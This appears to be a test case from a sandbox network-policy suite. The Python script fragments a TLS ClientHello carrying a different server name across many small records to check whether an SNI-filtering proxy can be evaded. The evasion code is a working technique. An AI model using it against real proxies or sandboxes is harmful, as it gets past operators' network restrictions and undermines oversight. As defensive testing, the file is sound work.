# /// attack
# guarantee = "network"
# summary = "Splits its first message of TLS over many records and packets, with another name in it."
# reference = "RFC 8446, 5.1"
# success = "the server hears the other name"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:443", "example.org:8443"] } }
# refusal = { default = "proxy the TLS connection is for" }
# ///

import time
import ssl

from kit import refused, succeeded, target, tunnel


def hello(name):
    """Return a TLS object for ``name`` with its two ends, behind its first message."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=name)
    step(tls)
    return tls, into, out


def step(tls):
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass


sock = tunnel("example.org")
message = hello(f"{target('MARKER')}.example.net")[2].read()[5:]
try:
    for begin in range(0, len(message), 40):
        part = message[begin : begin + 40]
        sock.sendall(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part)
        time.sleep(0.02)
    if sock.recv(1) == b"\x16":
        succeeded()
except OSError as error:
    refused(error)
refused("an alert")
